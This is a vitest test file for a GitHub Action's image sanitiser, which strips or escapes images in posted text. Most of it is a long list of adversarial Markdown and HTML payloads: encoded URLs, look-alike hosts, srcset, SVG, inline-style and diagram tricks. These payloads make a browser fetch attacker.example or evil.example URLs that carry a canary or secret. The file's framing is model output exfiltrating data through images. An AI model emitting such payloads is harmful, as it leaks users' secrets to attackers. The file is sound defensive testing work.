/**
 * The GitHub Action never posts an image that would make a reader's browser (or GitHub's camo proxy) fetch a URL off
 * the allow list: each adversarial case carries a canary in a URL on attacker.example, renders it (first checked),
 * and must render nothing from there once neutralised, while its URL stays readable as text.
 */
import { describe, expect, it } from 'vitest';
import { neutraliseImages } from '../../integrations/github-action/src/images.js';
import { imagePolicy, parseImagePrefixes } from '../../integrations/github-action/src/image-policy.js';
import { decodeCharacterReferences, loadedUrls, srcsetUrls } from '../../integrations/github-action/src/html-urls.js';
import { renderedLoads } from '../helpers/rendered-images.js';
import { publishable } from '../../integrations/github-action/src/publish.js';
import { redactor } from '../../integrations/github-action/src/redact.js';

const allows = imagePolicy({ serverUrl: 'https://github.com', repository: 'octo/demo', extra: ['https://img.shields.io/badge/'] });
const ATTACHMENT = 'https://github.com/user-attachments/assets/0f1e2d3c-aaaa-bbbb-cccc-000000000001';
const ATTACK = 'https://attacker.example/collect?d=CANARY-9b7d';

const offList = (markdown: string) => renderedLoads(markdown).filter((load) => /attacker|evil|CANARY/i.test(load));

const ADVERSARIAL: Record<string, string> = {
  'inline image': `Done. ![status](${ATTACK})`,
  'image with a title': `![x](${ATTACK} "title")`,
  'destination in angle brackets (autolink form)': `![x](<${ATTACK}>)`,
  'destination with a space inside angle brackets': `![x](<https://attacker.example/a b?d=CANARY>)`,
  'numeric character reference in the scheme': `![x](&#104;ttps://attacker.example/?d=CANARY)`,
  'hex reference for the colon': `![x](https&#x3A;//attacker.example/?d=CANARY)`,
  'named reference for the colon and slashes': `![x](https&colon;&sol;&sol;attacker.example/?d=CANARY)`,
  'backslash escapes in the destination': `![x](https:\\/\\/attacker.example/?d=CANARY)`,
  'whitespace around the destination': `![x](\t  ${ATTACK}  )`,
  'alt with nested brackets': `![a [b] c](${ATTACK})`,
  'destination with balanced parentheses': `![x](https://attacker.example/(CANARY))`,
  'full reference': `See ![x][img].\n\n[img]: ${ATTACK}`,
  'collapsed reference': `![img][]\n\n[img]: ${ATTACK} "t"`,
  'shortcut reference': `![img]\n\n[img]: <${ATTACK}>`,
  'reference label in another case and spacing': `![x][My   Image]\n\n[my image]: ${ATTACK}`,
  'definition before the image': `[r]:\n  ${ATTACK}\n\nText ![x][r]`,
  'reference definition for an allowed label used twice': `![a][r] ![b][r]\n\n[r]: ${ATTACK}`,
  'image inside a link': `[![x](${ATTACK})](https://github.com/octo/demo)`,
  'image in a list item and a block quote': `- ![x](${ATTACK})\n\n> ![y](${ATTACK}2)`,
  'image in a table cell': `| a | b |\n|---|---|\n| ![x](${ATTACK}) | c |`,
  'image in a footnote': `Text[^1]\n\n[^1]: ![x](${ATTACK})`,
  'image in a heading and emphasis': `# ![x](${ATTACK})\n\n*![y](${ATTACK})*`,
  'html img': `<img src="${ATTACK}">`,
  'html img inline in a paragraph': `text <img src="${ATTACK}"> more`,
  'html IMG in capitals': `<IMG SRC="${ATTACK}">`,
  'html img unquoted, without a slash': `<img src=https:attacker.example>`,
  'html img self-closed': `<img src="${ATTACK}" />`,
  'html img with entities in the URL': `<img src="&#x68;&#x74;tps&#58;//attacker.example/?d=CANARY">`,
  'html img with a named entity for the colon': `<img src="https&colon;//attacker.example/?d=CANARY">`,
  'html img split over lines': `<img alt="x"\n  src="${ATTACK}">`,
  'html img, protocol-relative': `<img src="//attacker.example/?d=CANARY">`,
  'html img with backslashes for slashes': `<img src="https:\\\\attacker.example/?d=CANARY">`,
  'html img with whitespace around the URL': `<img src="  ${ATTACK}  ">`,
  'html img whose alt holds image syntax': `<img alt="![y](https://evil.example/?d=CANARY)" src="${ATTACK}">`,
  'html img in a block quote': `> <img src="${ATTACK}">`,
  'picture with source srcset': `<picture>\n<source srcset="${ATTACK} 1x, ${ATTACHMENT} 2x">\n<img src="${ATTACHMENT}">\n</picture>`,
  'source srcset with a comma in the URL': `<picture><source srcset="https://attacker.example/a,CANARY 2x"><img src="${ATTACHMENT}"></picture>`,
  'video poster': `<video src="${ATTACHMENT}" poster="${ATTACK}"></video>`,
  'svg image': `<svg><image href="${ATTACK}"/></svg>`,
  'inline style with url()': `<div style="background-image:url(${ATTACK})">x</div>`,
  'input of type image': `<input type="image" src="${ATTACK}">`,
  'html comment holding an img': `<!-- --><img src="${ATTACK}">`,
  'userinfo making github.com the user': `![x](https://github.com@attacker.example/user-attachments/assets/CANARY)`,
  'host that starts like github.com': `![x](https://github.com.attacker.example/user-attachments/assets/CANARY)`,
  'path climbing out of the repository': `![x](https://github.com/octo/demo/../../attacker/evil.png?d=CANARY)`,
  'a repository whose name starts like this one': `![x](https://github.com/octo/demo-evil/raw/main/x.png?d=CANARY)`,
  'http, not https': `![x](http://github.com/user-attachments/assets/CANARY)`,
  'srcset with character references': `<picture><source srcset="&#x68;ttps://attacker.example/s.png?d=CANARY 2x"><img src="${ATTACHMENT}"></picture>`,
  'image in a table cell with an escaped pipe': `| a |\n|---|\n| ![x](https://attacker.example/a\\|b?d=CANARY) |`,
  'definition inside a block quote, image outside': `> [r]: ${ATTACK}\n\n![x][r]`,
  'a data: URL': `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='https://evil.example/'/%3E%3C/svg%3E)`,
  // Red-team round: each judged after the browser's URL parsing, or escaped by the parser-independent pass.
  'protocol-relative Markdown image': '![x](//evil.example/x.png?d=CANARY)',
  'scheme and host in capitals': '![x](HTTPS://EVIL.EXAMPLE/x.png?d=CANARY)',
  'look-alike host ending in the allowed one': '![x](https://user-images.githubusercontent.com.evil.example/x.png?d=CANARY)',
  'punycode look-alike of githubusercontent.com': '![x](https://user-images.xn--githubusercntent-evil.com/x.png?d=CANARY)',
  'Cyrillic look-alike of githubusercontent.com': '![x](https://user-images.githubusercоntent.com/x.png?d=CANARY)',
  'percent-encoded dot in the host': '![x](https://evil%2Eexample/x.png?d=CANARY)',
  'percent-encoded slashes climbing out of the repository': '![x](https://github.com/octo/demo/..%2F..%2Fevil/x.png?d=CANARY)',
  'a newline inside the alt': `![\nx](${ATTACK})`,
  'an image inside <details>': `<details><summary>s</summary>\n\n![x](${ATTACK})\n\n</details>`,
  'html img inside a link': `<a href="https://docs.example/"><img src="${ATTACK}"></a>`,
  'html img with spaces around =': `<img src = "${ATTACK}">`,
  'audio src': `<audio src="${ATTACK}"></audio>`,
  'object data': `<object data="${ATTACK}"></object>`,
  'embed src': `<embed src="${ATTACK}">`,
  'table background': `<table background="${ATTACK}"><tr><td>x</td></tr></table>`,
  'body background': `<body background="${ATTACK}">`,
  'svg image with xlink:href': `<svg><image xlink:href="${ATTACK}"/></svg>`,
  'html img in a list item': `- <img src="${ATTACK}">`,
  'html img in a footnote': `x[^a]\n\n[^a]: <img src="${ATTACK}">`,
  'html img in a table cell': `| a |\n|---|\n| <img src="${ATTACK}"> |`,
  'a definition given twice, the first off the list': `![x][r]\n\n[r]: ${ATTACK}\n[r]: ${ATTACHMENT}`,
  'a reference image inside a link': `[![a][r]](https://docs.example/)\n\n[r]: ${ATTACK}`,
};

describe('the GitHub Action: images in what it posts', () => {
  for (const [name, markdown] of Object.entries(ADVERSARIAL)) {
    it(`neutralises ${name}`, () => {
      const rendered = renderedLoads(markdown);
      // The case is real: before, the page would load something off the list.
      expect(rendered.some((load) => !/user-attachments/.test(load) || /attacker|evil|CANARY/.test(load))).toBe(true);
      const out = neutraliseImages(markdown, allows);
      expect(offList(out)).toEqual([]);
      for (const load of renderedLoads(out)) expect(load).toContain(ATTACHMENT);
      // What the model tried to fetch is shown, as text.
      expect(out).toMatch(/attacker|evil|CANARY/);
    });
  }

  // Where GitHub's cmark-gfm reads HTML that micromark (the parser here, and the test's renderer) does not: an unquoted
  // value holding `/` (cmark allows it), a tag over lines inside a block quote, a tag inside an attribute of a broken one.
  const DIVERGENT: Record<string, string> = {
    'unquoted URL with slashes': 'text <img src=https://attacker.example/x.png> more',
    'unquoted URL with slashes, at the start of a line': '<IMG SRC=https://attacker.example/CANARY/x.png>',
    'a tag over lines inside a block quote': '> <img\n> src=https://attacker.example/x.png>',
    'a tag inside the quoted value of an unclosed one': '<img alt="x <img src=https://attacker.example/x.png>',
    'an img over lines with the > on a line of its own': '<img\n  alt="x"\n  src="https://attacker.example/x.png"\n>',
    'a source tag over lines without a readable URL': '<source\nsrcset=https://attacker.example/x.png>',
  };
  for (const [name, markdown] of Object.entries(DIVERGENT)) {
    it(`escapes a tag another parser could read as HTML: ${name}`, () => {
      const out = neutraliseImages(markdown, allows);
      expect(out).not.toMatch(/<(img|source)/i);
      expect(offList(out)).toEqual([]);
      expect(out).toContain('attacker.example');
    });
  }

  it('escapes tags that load through what this reader cannot judge: srcdoc, event handlers', () => {
    // (GitHub's tag filter also drops <iframe>; the filter does not count on it.)
    for (const markdown of [`<iframe src="${ATTACK}"></iframe>`, `<iframe src="${ATTACHMENT}" srcdoc="&lt;img src='${ATTACK}'&gt;"></iframe>`, `<img src="${ATTACHMENT}" onerror="fetch('${ATTACK}')">`]) {
      const out = neutraliseImages(markdown, allows);
      expect(out.startsWith('&lt;')).toBe(true);
      expect(renderedLoads(out)).toEqual([]);
    }
  });

  it('never vouches for an allowed prefix whose path a server could decode out of it (%2F, %5C, %2E, ..;)', () => {
    for (const url of ['https://img.shields.io/badge/..%2Fendpoint?url=https://evil.example/', 'https://img.shields.io/badge/..%5cendpoint', 'https://img.shields.io/badge/..;/endpoint', 'https://github.com/octo/demo/%2E%2E%2Fx']) {
      expect(allows(url)).toBe(false);
    }
    expect(allows('https://img.shields.io/badge/tests-passing-green')).toBe(true);
    // A listed prefix is matched with its case (another host's paths may tell case apart); GitHub's ignore it.
    expect(allows('https://img.shields.io/BADGE/x')).toBe(false);
    expect(allows('https://github.com/OCTO/Demo/raw/main/a.png')).toBe(true);
  });

  it('fails closed in bounded time on answers built to make the reader slow: every < and ![ escaped', () => {
    for (const markdown of ['<a x '.repeat(20_000), '<img alt="'.repeat(20_000), '<img\n'.repeat(20_000), `${'x'.repeat(100_001)} ![x](${ATTACK})`]) {
      const out = neutraliseImages(markdown, allows);
      expect(out).not.toMatch(/<[A-Za-z]|(?<!\\)!\[/);
    }
    // Deep nesting still parses (bounded by the size limit) and neutralises the image.
    const deep = neutraliseImages(`${'>'.repeat(5_000)} ![x](${ATTACK})`, allows);
    expect(offList(deep)).toEqual([]);
  });

  it('redacts a secret that showing a neutralised image URL would decode (character references, escapes)', () => {
    const redact = redactor(['SECRET-CANARY-42']);
    for (const markdown of ['![x](https://evil.example/?d=SECRET-&#67;ANARY-42)', '![x](https://evil.example/?d=SECRET\\-CANARY-42)']) {
      const out = publishable(markdown, redact, allows);
      expect(out).not.toContain('SECRET-CANARY-42');
      expect(out).toContain('***');
      expect(offList(out)).toEqual([]);
    }
  });

  it('does not render a reference image when a label like its own (another case folding) names an off-list URL', () => {
    // micromark picks the allowed definition; a renderer folding the fullwidth Ｒ to r would pick the other.
    const out = neutraliseImages(`![x][Ｒef]\n\n[Ｒef]: ${ATTACHMENT}\n[ref]: ${ATTACK}`, allows);
    expect(out).toContain(`(image not shown, its URL is not on the allow list: \`${ATTACK}\`)`);
    expect(renderedLoads(out)).toEqual([]);
    expect(neutraliseImages(`![x][Ｒef]\n\n[Ｒef]: ${ATTACHMENT}\n[other]: ${ATTACK}`, allows)).toBe(`![x][Ｒef]\n\n[Ｒef]: ${ATTACHMENT}\n[other]: ${ATTACK}`);
  });

  it('escapes the ! of an image syntax no parse read as an image, so another parser could at most make it a link', () => {
    // Not an image for micromark (a space in an unbracketed destination): `\!` keeps it so for every parser.
    expect(neutraliseImages('![x](https://attacker.example/a b)', allows)).toBe('\\![x](https://attacker.example/a b)');
    expect(neutraliseImages('Wow![not an image', allows)).toBe('Wow\\![not an image');
    expect(neutraliseImages('\\![escaped](https://attacker.example/)', allows)).toBe('\\![escaped](https://attacker.example/)');
  });

  it('shows a neutralised Markdown image as its URL in a code span, never as markup', () => {
    expect(neutraliseImages(`Look: ![chart](${ATTACK}) done`, allows)).toBe(`Look: (image not shown, its URL is not on the allow list: \`${ATTACK}\`) done`);
    expect(neutraliseImages('![x](<https://attacker.example/a`b|c d>)', allows)).toBe('(image not shown, its URL is not on the allow list: `https://attacker.example/a%60b%7Cc%20d`)');
    expect(neutraliseImages(`<img src="${ATTACK}">`, allows)).toBe(`&lt;img src="${ATTACK}">`);
  });

  it('keeps images on the allow list: GitHub attachments, the repository\'s own files, relative paths, and the listed prefixes', () => {
    const allowed = [
      `![screenshot](${ATTACHMENT})`,
      `<img src="${ATTACHMENT}" width="300" alt="x">`,
      '![old upload](https://user-images.githubusercontent.com/1/abc.png)',
      '![logo](https://raw.githubusercontent.com/octo/demo/main/logo.png)',
      '![diagram](https://github.com/OCTO/Demo/blob/main/docs/d.png?raw=true)',
      '![rel](docs/arch.png)',
      '![badge](https://img.shields.io/badge/tests-passing-green)',
      `![a][r]\n\n[r]: ${ATTACHMENT}`,
      `<picture><source srcset="${ATTACHMENT} 2x"><img src="${ATTACHMENT}"></picture>`,
    ];
    for (const markdown of allowed) {
      expect(neutraliseImages(markdown, allows)).toBe(markdown);
      expect(renderedLoads(markdown).length).toBeGreaterThan(0);
    }
  });

  it('leaves code, links and ordinary HTML alone', () => {
    const text = [
      'Use `![x](https://attacker.example/)` in Markdown, or:',
      '',
      '```md',
      `![x](${ATTACK})`,
      `<img src="${ATTACK}">`,
      '```',
      '',
      '    ![indented](https://attacker.example/)',
      '',
      '[the docs](https://docs.example/search?q=images) and <https://docs.example/> and https://docs.example/x',
      '',
      '<details><summary>More</summary>',
      '',
      '<a href="https://docs.example/">a link</a> <b>bold</b> <sub>small</sub>',
      '</details>',
      '',
      '| a | b |',
      '|---|---|',
      '| 1 | 2 |',
    ].join('\n');
    expect(neutraliseImages(text, allows)).toBe(text);
  });

  it('turns a diagram block that mentions a URL or an image into plain code; other diagrams render', () => {
    const diagram = '```mermaid\nflowchart LR\n  A@{ img: "https://attacker.example/?d=CANARY" }\n```';
    expect(neutraliseImages(diagram, allows)).toBe('```text\nflowchart LR\n  A@{ img: "https://attacker.example/?d=CANARY" }\n```');
    // Escapes and entities that spell `//` or `url(` without writing them, and init directives that set CSS.
    for (const body of ['style A background:u\\72l(https:\\2f\\2f evil.example)', 'A["<b>https:&#47;&#47;evil.example</b>"]', '%%{init: {"themeCSS": ".x{}"}}%%']) {
      expect(neutraliseImages(`\`\`\`mermaid\nflowchart LR\n  ${body}\n\`\`\``, allows)).toMatch(/^```text\n/);
    }
    const plain = '```mermaid\nflowchart LR\n  A --> B\n```';
    expect(neutraliseImages(plain, allows)).toBe(plain);
  });

  it('when rewriting does not settle, escapes every < and ![ so nothing renders as an image', () => {
    const markdown = `![x](${ATTACK}) <img src="${ATTACK}"> ![ok](${ATTACHMENT})`;
    const out = neutraliseImages(markdown, allows, 0);
    expect(out).not.toContain('<');
    expect(out).not.toContain('![');
    expect(renderedLoads(out)).toEqual([]);
    expect(neutraliseImages('no images here <b>', allows, 0)).toBe('no images here <b>');
  });

  it('escapes everything when the policy (or the parser) fails, rather than posting the text as it is', () => {
    const broken = () => {
      throw new Error('policy failed');
    };
    const out = neutraliseImages(`![x](${ATTACK}) <img src="${ATTACK}">`, broken);
    expect(out).toBe(`!\\[x](${ATTACK}) &lt;img src="${ATTACK}">`);
    expect(renderedLoads(out)).toEqual([]);
  });

  it('handles a long answer with many images', () => {
    const long = Array.from({ length: 400 }, (_, i) => `Line ${i} ![i${i}](https://attacker.example/${i}?d=CANARY) and ![ok](${ATTACHMENT})`).join('\n\n');
    const out = neutraliseImages(long, allows);
    expect(offList(out)).toEqual([]);
    expect(renderedLoads(out)).toHaveLength(400);
  });
});

describe('the GitHub Action: image allow list and HTML reading', () => {
  it('reads allowed_image_urls as https prefixes and names a bad one', () => {
    expect(parseImagePrefixes(' https://img.shields.io/, https://cdn.example/x/\n')).toEqual(['https://img.shields.io/', 'https://cdn.example/x/']);
    expect(() => parseImagePrefixes('img.shields.io')).toThrow('allowed_image_urls: "img.shields.io" is not a URL');
    expect(() => parseImagePrefixes('http://img.shields.io/')).toThrow('allowed_image_urls: "http://img.shields.io/" is not https');
    expect(() => parseImagePrefixes('https://a.example/?x=1')).toThrow('must be a plain prefix');
  });

  it('follows the repository and server it runs for (GitHub Enterprise Server too)', () => {
    const ghes = imagePolicy({ serverUrl: 'https://ghe.corp.example/', repository: 'team/app', extra: [] });
    expect(ghes('https://ghe.corp.example/team/app/raw/main/a.png')).toBe(true);
    expect(ghes('https://ghe.corp.example/user-attachments/assets/1')).toBe(true);
    expect(ghes('https://ghe.corp.example/other/app/raw/main/a.png')).toBe(false);
    expect(ghes('img/a.png')).toBe(true);
    expect(ghes('/other/x.png')).toBe(false);
  });

  it('reads srcset candidates, character references and tags as a browser does', () => {
    expect(srcsetUrls('a.png 1x,b.png 2x ,  c.png, d.png(x) 100w')).toEqual(['a.png', 'b.png', 'c.png', 'd.png(x)']);
    expect(decodeCharacterReferences('&#104;&#x74;tps&colon;&sol;&sol;a&amp;b&ampc&unknown;&amp d')).toBe('https://a&b&ampc&unknown;& d');
    expect(loadedUrls('<a href="https://x.example/">x</a> <b>y</b>')).toEqual([]);
    expect(loadedUrls('<img src=a.png srcset="b.png 2x"><link href=c.css>')).toEqual(['a.png', 'b.png', 'c.css']);
    expect(loadedUrls('<style>@import url(x)</style>')).toBeUndefined();
    expect(loadedUrls('<img src="&bogus;https://x.example/">')).toBeUndefined();
  });
});
